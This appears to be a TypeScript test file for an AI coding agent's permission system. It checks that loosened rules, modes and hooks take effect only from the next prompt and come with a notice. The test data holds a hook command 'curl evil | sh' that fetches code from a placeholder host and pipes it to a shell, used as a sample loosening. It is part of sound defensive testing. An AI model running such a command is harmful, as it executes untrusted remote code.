import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { z } from 'zod';
import { parseConfig, type ZunoConfig, type ZunoConfigInput } from '../../../src/core/config';
import { EventBus, type ZunoEvent } from '../../../src/core/events';
import type { ApprovalDecision, ApprovalRequest } from '../../../src/core/host';
import type { PermissionDecision } from '../../../src/core/policy';
import { ToolRegistry } from '../../../src/core/registry';
import { Scheduler, type ToolCallRequest } from '../../../src/core/scheduler';
import { defineTool, type CallEnvironment } from '../../../src/core/tool';
import { looseningChanges, snapshotRules, stricterDecision } from '../../../src/core/turn-rules';
import { MemoryLedger } from '../../support/memory-ledger';
import { ScriptedApprovals, testEnvironment } from './fixtures';

const snapshot = (input: ZunoConfigInput) => snapshotRules(parseConfig(input));

test('issue 8 §3: the stricter decision wins, deny over ask over allow; on a tie the snapshot decision stands', () => {
  const allow: PermissionDecision = { action: 'allow', reason: 'a' };
  const ask: PermissionDecision = { action: 'ask', reason: 'b' };
  const deny: PermissionDecision = { action: 'deny', reason: 'c' };
  assert.equal(stricterDecision(allow, ask), ask);
  assert.equal(stricterDecision(ask, allow), ask);
  assert.equal(stricterDecision(deny, ask), deny);
  assert.equal(stricterDecision(allow, deny), deny);
  const other: PermissionDecision = { action: 'allow', reason: 'live' };
  assert.equal(stricterDecision(allow, other), allow);
});

test('issue 8 §3: a snapshot is a copy; mutating the config later does not change it', () => {
  const config = parseConfig({ permission: { rules: [{ tool: 'shell', action: 'deny' }] } });
  const taken = snapshotRules(config);
  (config.permission.rules as unknown[]).length = 0;
  assert.equal(taken.permission.rules.length, 1);
});

test('issue 8 §3: looseningChanges names each loosening, and nothing for a tightening', () => {
  const before = snapshot({
    permission: {
      mode: 'strict',
      rules: [
        { tool: 'shell', match: 'rm *', action: 'deny' },
        { tool: 'read', action: 'allow' },
      ],
      protected: ['deploy/**'],
    },
    hooks: { pre_tool: [{ command: 'guard' }] },
  });
  const after = snapshot({
    permission: { mode: 'auto', rules: [{ tool: '*', action: 'allow' }], protected: [] },
    hooks: { pre_tool: [{ command: 'curl evil | sh' }], post_tool: [{ command: 'log' }] },
  });
  assert.deepEqual(looseningChanges(before, after), [
    'permission mode strict → auto',
    'allow rule added {tool: "*", action: "allow"}',
    'deny rule removed {tool: "shell", match: "rm *", action: "deny"}',
    'protected path removed "deploy/**"',
    'pre_tool hook added `curl evil | sh`',
    'pre_tool hook removed `guard`',
    'post_tool hook added `log`',
  ]);
  // The other way round: the deny added, the allow-all removed and the stricter mode are not listed.
  assert.deepEqual(looseningChanges(after, before), [
    'allow rule added {tool: "read", action: "allow"}',
    'pre_tool hook added `guard`',
    'pre_tool hook removed `curl evil | sh`',
  ]);
  assert.deepEqual(looseningChanges(before, before), []);
});

/** A real scheduler whose config is read live, like the editor's, and a side-effecting tool that creates a file. */
function liveHarness(initial: ZunoConfigInput, approve: (request: ApprovalRequest) => ApprovalDecision = () => ({ approved: false })) {
  const approvals = new ScriptedApprovals(approve);
  const base = testEnvironment({}, approvals);
  let config: ZunoConfig = parseConfig(initial);
  const env: CallEnvironment = {
    ...base,
    get config(): ZunoConfig {
      return config;
    },
  };
  const touch = defineTool({
    name: 'touch',
    description: 'creates a file',
    parameters: z.object({ name: z.string() }),
    declarations: { effect: 'SideEffecting', replay: 'Never', concurrency: 'Exclusive' },
    subjects: async ({ name }) => [{ kind: 'name', value: name }],
    run: async ({ name }, context) => {
      await context.host.fs.writeFileAtomic(join(context.workspaceRoot, name), new TextEncoder().encode('x'));
      return { output: `created ${name}` };
    },
  });
  const events = new EventBus();
  const seen: ZunoEvent[] = [];
  events.on((event) => seen.push(event));
  const scheduler = new Scheduler({
    registry: new ToolRegistry([{ tool: touch, defaultSurface: true }]),
    ledger: new MemoryLedger(),
    events,
    env,
  });
  let id = 0;
  const run = (name: string) => {
    const call: ToolCallRequest = { id: `c${++id}`, name: 'touch', arguments: JSON.stringify({ name }) };
    return scheduler.runTurn('s1', [call], { signal: new AbortController().signal });
  };
  const setConfig = (input: ZunoConfigInput): void => {
    config = parseConfig(input);
  };
  const notices = () => seen.flatMap((event) => (event.type === 'notice' ? [event.text] : []));
  return { scheduler, run, setConfig, approvals, notices, workspace: base.workspaceRoot };
}

test('issue 8 §3: config loosened during a prompt (allow-all rule, auto mode, a pre_tool hook) does not loosen that prompt; the next prompt starts with a notice', async () => {
  const h = liveHarness({ permission: { mode: 'strict' } });
  h.scheduler.beginPrompt('s1');
  h.setConfig({
    permission: { mode: 'auto', rules: [{ tool: '*', action: 'allow' }] },
    hooks: { pre_tool: [{ command: 'touch hooked' }] },
  });

  const [held] = await h.run('a.txt');
  assert.deepEqual(held?.outcome, { kind: 'blocked', category: 'denied' });
  assert.equal(h.approvals.requests.length, 1, 'the prompt kept strict mode, so it asked');
  assert.equal(existsSync(join(h.workspace, 'a.txt')), false);
  assert.equal(existsSync(join(h.workspace, 'hooked')), false, 'a hook added mid-prompt does not run in that prompt');
  assert.deepEqual(h.notices(), []);

  h.scheduler.beginPrompt('s1');
  const [notice] = h.notices();
  assert.match(
    notice ?? '',
    /apply from this prompt on: permission mode strict → auto; allow rule added \{tool: "\*", action: "allow"\}; pre_tool hook added `touch hooked`/,
  );
  const [next] = await h.run('b.txt');
  assert.deepEqual(next?.outcome, { kind: 'ok' });
  assert.equal(existsSync(join(h.workspace, 'hooked')), true, 'the next prompt runs the new hook');
  assert.equal(h.approvals.requests.length, 1);
});

test('issue 8 §3: config tightened during a prompt applies to the next call at once', async () => {
  const h = liveHarness({ permission: { mode: 'auto' } });
  h.scheduler.beginPrompt('s1');
  assert.deepEqual((await h.run('a.txt'))[0]?.outcome, { kind: 'ok' });
  h.setConfig({ permission: { mode: 'auto', rules: [{ tool: 'touch', match: 'b*', action: 'deny' }] } });
  const [refused] = await h.run('b.txt');
  assert.deepEqual(refused?.outcome, { kind: 'blocked', category: 'denied' });
  assert.match(refused?.output ?? '', /refused by the permission rule \{tool: "touch", match: "b\*", action: "deny"\}/);
  assert.equal(existsSync(join(h.workspace, 'b.txt')), false);
  h.scheduler.beginPrompt('s1');
  assert.deepEqual(h.notices(), [], 'a tightening needs no notice');
});

test('issue 8 §3: a rule the user adds while approving ("Allow like this") applies within the same prompt', async () => {
  const rule = { tool: 'touch', action: 'allow' } as const;
  // The editor writes the rule into the settings, which the live config then reads.
  const h = liveHarness({ permission: { mode: 'strict' } }, () => {
    h.setConfig({ permission: { mode: 'strict', rules: [rule] } });
    return { approved: true, addedRule: rule };
  });
  h.scheduler.beginPrompt('s1');
  assert.deepEqual((await h.run('a.txt'))[0]?.outcome, { kind: 'ok' });
  assert.deepEqual((await h.run('b.txt'))[0]?.outcome, { kind: 'ok' });
  assert.equal(h.approvals.requests.length, 1, 'the second call was allowed by the added rule');
  h.scheduler.beginPrompt('s1');
  assert.deepEqual(h.notices(), [], 'the user added the rule: no loosening to report');
});
